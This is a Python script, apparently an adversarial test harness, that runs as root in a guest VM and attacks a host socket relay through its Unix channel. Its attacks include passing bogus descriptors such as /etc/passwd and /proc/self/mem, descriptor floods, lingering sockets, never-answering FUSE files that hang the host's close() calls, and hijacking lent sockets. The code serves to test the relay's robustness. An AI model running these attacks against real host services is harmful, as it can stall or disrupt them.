"""What a guest's root does with the channel to the host's relay, instead of vpnkit-forwarder.

Runs in the guest, as its root, with nothing but the standard library: ``python3 -c SCRIPT ATTACK``. It prints ``ready``
once the attack goes on, attacks until its input ends, and then prints as JSON what it has seen.
"""

from __future__ import annotations

import array
import collections
import contextlib
import ctypes
import errno
import json
import mmap
import os
import select
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

CHANNEL = "/run/host-services/forwarder.sock"
VERSION = 3
MOST = 253  # descriptors in one packet
HELLO = {"type": "hello", "version": VERSION}
KINDS = {
    "tcp4": (socket.AF_INET, socket.SOCK_STREAM, 0),
    "tcp6": (socket.AF_INET6, socket.SOCK_STREAM, 0),
    "udp4": (socket.AF_INET, socket.SOCK_DGRAM, 0),
    "udp6": (socket.AF_INET6, socket.SOCK_DGRAM, 0),
}
CLONE_NEWNET = 0x40000000
FUSE_INIT, FUSE_GETATTR, FUSE_OPEN, FUSE_LOOKUP = 26, 3, 14, 1
MNT_FORCE = 1
LINGER = struct.pack("ii", 1, 3600)
libc = ctypes.CDLL(None, use_errno=True)
seen = collections.Counter[str]()
ended = threading.Event()


class Channel:
    """A connection to the relay; ``lend`` is called for each socket that it asks for."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        self.sock.settimeout(20)
        self.sock.connect(CHANNEL)
        self.send(HELLO)

    def send(self, message: dict[str, object], descriptors: list[int] | None = None) -> None:
        """Send a message and descriptors."""
        socket.send_fds(self.sock, [json.dumps(message).encode()], descriptors or [])

    def receive(self) -> dict[str, object]:
        """Return a message of the host's; count it and the descriptors that came with it."""
        data, control, _, _ = self.sock.recvmsg(65536, socket.CMSG_SPACE(MOST * array.array("i").itemsize))
        if not data:
            raise ConnectionResetError
        message: dict[str, object] = json.loads(data)
        seen["messages"] += 1
        seen[str(message["type"])] += 1
        seen["control"] += len(control)
        return message

    def closed(self) -> bool:
        """Read until the host closes the connection; return whether it did."""
        with contextlib.suppress(ConnectionError, BrokenPipeError):
            while True:
                try:
                    self.receive()
                except TimeoutError:
                    return False
        return True

    def serve(self, make: Callable[[str], socket.socket], keep: list[socket.socket] | None = None) -> None:
        """Lend what is wanted, and keep duplicates of it, until the end or until the host closes the connection."""
        self.sock.settimeout(0.1)
        while not ended.is_set():
            try:
                message = self.receive()
            except TimeoutError:
                continue
            except OSError:
                return
            if message["type"] != "want":
                continue
            kind, sockets = str(message["kind"]), []
            for _ in range(int(str(message["count"]))):
                sockets.append(make(kind))
            with contextlib.suppress(OSError):
                self.send({"type": "lend", "kind": kind}, [sock.fileno() for sock in sockets])
            if keep is None:
                for sock in sockets:
                    sock.close()
            else:
                keep += sockets


def fresh(kind: str) -> socket.socket:
    """Return a socket such as is asked for."""
    sock = socket.socket(*KINDS[kind])
    sock.setblocking(False)
    return sock


def background(target: Callable[[], object]) -> None:
    """Run something beside the attack."""
    threading.Thread(target=target, daemon=True).start()


def again_and_again(step: Callable[[], object]) -> None:
    """Do a step until the end, whether it fails or not."""

    def run() -> None:
        while not ended.is_set():
            with contextlib.suppress(OSError):
                step()

    background(run)


def to_each(kept: list[socket.socket], change: Callable[[socket.socket], object]) -> None:
    """Change all duplicates of what was lent, until the end."""

    def step() -> None:
        for sock in kept[-300:]:
            with contextlib.suppress(OSError):
                change(sock)
        time.sleep(0.001)

    again_and_again(step)


def serve_changed(change: Callable[[socket.socket], object]) -> None:
    """Lend what is wanted and change it afterwards."""
    kept: list[socket.socket] = []
    to_each(kept, change)
    serve_for_ever(fresh, kept)


def serve_for_ever(make: Callable[[str], socket.socket], kept: list[socket.socket] | None = None) -> None:
    """Connect, lend, and connect anew where the host closes the channel."""

    def step() -> None:
        try:
            Channel().serve(make, kept)
        except OSError:
            time.sleep(0.1)

    again_and_again(step)


def listen(sock: socket.socket) -> None:
    """Do what made the host listen when the socket was the host's."""
    libc.connect(sock.fileno(), bytes(16), 16)  # AF_UNSPEC: disconnect
    sock.bind(("0.0.0.0", 0 if sock.type != socket.SOCK_STREAM else 45990 + len(sys.argv[1])))
    sock.listen()


def disconnect(sock: socket.socket) -> None:
    """Disconnect a socket that the host has connected."""
    with contextlib.suppress(OSError):
        sock.getpeername()
        libc.connect(sock.fileno(), bytes(16), 16)


def read(sock: socket.socket) -> None:
    """Take what the host's relay is about to read."""
    sock.recv(65536, socket.MSG_DONTWAIT)


def shut(sock: socket.socket) -> None:
    """End both directions of a socket that the host has connected."""
    sock.getpeername()
    sock.shutdown(socket.SHUT_RDWR)


def queue_errors(sock: socket.socket) -> None:
    """Have the kernel put a time stamp into the error queue for all that the host sends."""
    sock.setsockopt(socket.SOL_SOCKET, 37, 1 << 1 | 1 << 4)  # SO_TIMESTAMPING: TX_SOFTWARE, SOFTWARE


def lingering() -> socket.socket:
    """Return a socket whose last close() waits for an hour: it is full of what nobody reads."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        sock = socket.create_connection(server.getsockname())
        peer, _ = server.accept()
    held.append(peer)
    sock.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while True:
            sock.send(bytes(65536))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER)
    sock.setblocking(True)
    return sock


held: list[socket.socket] = []
silent: list[SilentFiles] = []


def odd_descriptors() -> Iterator[tuple[str, str, int]]:
    """Yield a name, what it is said to be, and a descriptor that is something else."""
    made = {
        "mptcp": (socket.AF_INET, socket.SOCK_STREAM, 262),
        "raw": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        "udp as tcp": (socket.AF_INET, socket.SOCK_DGRAM, 0),
        "tcp6 as tcp4": (socket.AF_INET6, socket.SOCK_STREAM, 0),
        "udplite": (socket.AF_INET, socket.SOCK_DGRAM, 136),
        "unix": (socket.AF_UNIX, socket.SOCK_STREAM, 0),
        "packets": (socket.AF_UNIX, socket.SOCK_SEQPACKET, 0),
        "netlink": (socket.AF_NETLINK, socket.SOCK_RAW, 0),
        "packet": (socket.AF_PACKET, socket.SOCK_RAW, 0),
    }
    for name, arguments in made.items():
        with contextlib.suppress(OSError), socket.socket(*arguments) as sock:
            yield name, "tcp4", sock.fileno()
    with socket.create_server(("127.0.0.1", 0)) as listener:
        yield "listening", "tcp4", listener.fileno()
    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as channel:
        channel.connect("/run/host-services/forwarder.sock")
        time.sleep(0.3)
        yield "the channel itself", "tcp4", channel.fileno()
    for path in ("/", "/etc/passwd", "/dev/null", "/dev/fuse", "/proc/self/ns/net", "/proc/self/mem"):
        descriptor = os.open(path, os.O_RDONLY)
        yield path, "tcp4", descriptor
        os.close(descriptor)
    for descriptor in (*os.pipe(), select.epoll().fileno(), os.pidfd_open(os.getpid()), os.memfd_create("x")):
        yield "no socket", "udp4", descriptor


def send_odd() -> None:
    """Lend what is no socket, or of another kind, each on a connection of its own: each is closed."""
    for name, kind, descriptor in odd_descriptors():
        for message in ({"type": "lend", "kind": kind}, {"type": "opened", "id": 0}, HELLO):
            channel = Channel()
            with contextlib.suppress(ConnectionError), channel.sock:
                channel.send(message, [descriptor] * 3)
                closed = channel.closed()
                seen["closed" if closed else f"not closed: {name}"] += 1


def send_too_many() -> None:
    """Lend as many sockets as a packet takes, asked or not."""
    sock = fresh("tcp4")
    for count in (MOST, 128):

        def step(count: int = count) -> None:
            channel = Channel()
            with channel.sock:
                while not ended.is_set():
                    channel.send({"type": "lend", "kind": "tcp4"}, [sock.fileno()] * count)
                    seen["sent"] += 1

        again_and_again(step)


def send_lingering() -> None:
    """Lend sockets that are connected and full, and close the duplicates first."""

    def step() -> None:
        channel = Channel()
        with channel.sock:
            for _ in range(20):
                sockets = [lingering() for _ in range(5)]
                channel.send({"type": "lend", "kind": "tcp4"}, [sock.fileno() for sock in sockets])
                for sock in sockets:
                    sock.detach()
                    seen["sent"] += 1

    again_and_again(step)


class SilentFiles:
    """A FUSE file system of one file, which can be opened, and nothing else once ``silent`` is seen."""

    def __init__(self) -> None:
        self.path = Path(tempfile.mkdtemp())
        self._device = os.open("/dev/fuse", os.O_RDWR)
        options = f"fd={self._device},rootmode=40000,user_id=0,group_id=0,allow_other".encode()
        if libc.mount(b"silent", str(self.path).encode(), b"fuse", 0, options):
            raise OSError(ctypes.get_errno(), "mount fuse")
        silent.append(self)
        background(self._serve)

    def open(self, flags: int = os.O_RDWR) -> int:
        """Open the file."""
        return os.open(self.path / "file", flags)

    def abort(self) -> None:
        """End it, or nobody who waits for it could: this process neither."""
        libc.umount2(str(self.path).encode(), MNT_FORCE)

    def _serve(self) -> None:
        attributes = struct.pack("QQQQQQIIIIIIIIII", 2, 1 << 20, 1, 0, 0, 0, 0, 0, 0, 0o100644, 1, 0, 0, 0, 4096, 0)
        folder = struct.pack("QQQQQQIIIIIIIIII", 1, 0, 0, 0, 0, 0, 0, 0, 0, 0o40755, 2, 0, 0, 0, 4096, 0)
        while True:
            try:
                request = os.read(self._device, 1 << 20)
            except OSError as error:
                if error.errno == errno.ENODEV:
                    return
                continue
            _, code, unique, node = struct.unpack_from("IIQQ", request)
            if code == FUSE_INIT:
                body = struct.pack("IIIIHHIIHHI28x", 7, 31, 0, 0, 0, 0, 4096, 0, 0, 0, 0)
            elif code == FUSE_LOOKUP:
                body = struct.pack("QQQQII", 2, 0, 0, 0, 0, 0) + attributes
            elif code == FUSE_GETATTR and (node == 1 or not seen["silent"]):
                body = struct.pack("QII", 0, 0, 0) + (folder if node == 1 else attributes)
            elif code == FUSE_OPEN:
                body = struct.pack("QII", 1, 0, 0)
            else:
                seen[f"not answered: {code}"] += 1
                continue
            with contextlib.suppress(OSError):  # nobody waits for the answer any more
                os.write(self._device, struct.pack("IiQ", 16 + len(body), 0, unique) + body)


def send_silent_files() -> None:
    """Lend files whose file system never answers when they are closed."""
    files = SilentFiles()
    descriptor = files.open()
    seen["silent"] = 1

    def step() -> None:
        channel = Channel()
        with channel.sock:
            channel.send({"type": "lend", "kind": "tcp4"}, [descriptor] * 20)
            channel.closed()
            seen["sent"] += 1

    again_and_again(step)


def leave_silent_files() -> None:
    """Do it once, and let go of the channel."""
    descriptor = SilentFiles().open()
    seen["silent"] = 1
    channel = Channel()
    channel.send({"type": "lend", "kind": "tcp4"}, [descriptor] * 20)
    channel.sock.close()


def lock_sockets() -> None:
    """Hold the locks of the sockets that the host has connected: the kernel reads what to send from silent files."""
    libc.mmap.restype = ctypes.c_void_p
    nothing = ctypes.c_void_p(None)
    address = libc.mmap(nothing, 4096, mmap.PROT_READ, mmap.MAP_SHARED, SilentFiles().open(), ctypes.c_long(0))
    busy: set[int] = set()

    def lock(sock: socket.socket) -> None:
        sock.getpeername()
        if id(sock) not in busy:
            busy.add(id(sock))
            seen["locked"] += 1
            background(lambda: libc.send(sock.fileno(), ctypes.c_void_p(address), 4096, 0))

    serve_changed(lock)


def another_network() -> None:
    """Lend sockets of this network, then those of a new one."""
    Channel().serve(fresh) if libc.unshare(CLONE_NEWNET) == 0 else None


def black_hole() -> None:
    """Make addresses where nobody answers, and let connecting to them block."""
    for command in ("link add hole type dummy", "addr add 192.0.2.1/24 dev hole", "link set hole up"):
        subprocess.run(["ip", *command.split()], check=False, stderr=subprocess.DEVNULL)
    serve_changed(lambda sock: sock.setblocking(True))


def connect_elsewhere() -> None:
    """Connect lent sockets to a server of one's own before the host does."""
    server = socket.create_server(("127.0.0.1", 0), backlog=4096)

    def make(kind: str) -> socket.socket:
        sock = fresh(kind)
        if kind == "tcp4":
            with contextlib.suppress(BlockingIOError):
                sock.connect(server.getsockname())
        return sock

    serve_for_ever(make)


def keep_all() -> None:
    """Lend what is wanted, and keep it, as the honest service does not."""
    serve_for_ever(fresh, held)


ATTACKS: dict[str, Callable[[], None]] = {
    "keep": keep_all,
    "listen": lambda: serve_changed(listen),
    "odd": send_odd,
    "many": send_too_many,
    "block": black_hole,
    "block-and-read": lambda: serve_changed(lambda sock: (sock.setblocking(True), read(sock))),
    "linger": send_lingering,
    "elsewhere": connect_elsewhere,
    "read": lambda: serve_changed(read),
    "shut": lambda: serve_changed(shut),
    "disconnect": lambda: serve_changed(disconnect),
    "errors": lambda: serve_changed(queue_errors),
    "silent": send_silent_files,
    "silent-once": leave_silent_files,
    "lock": lock_sockets,
    "network": lambda: background(another_network),
}


def end() -> None:
    """Wait for the end, and tell what was seen."""
    sys.stdin.read()
    ended.set()
    for files in silent:
        files.abort()
    print(json.dumps(seen), flush=True)
    os._exit(0)


def main() -> None:
    """Attack until the end."""
    ending = threading.Thread(target=end)
    ending.start()
    ATTACKS[sys.argv[1]]()
    print("ready", flush=True)
    ending.join()


if __name__ == "__main__":
    main()
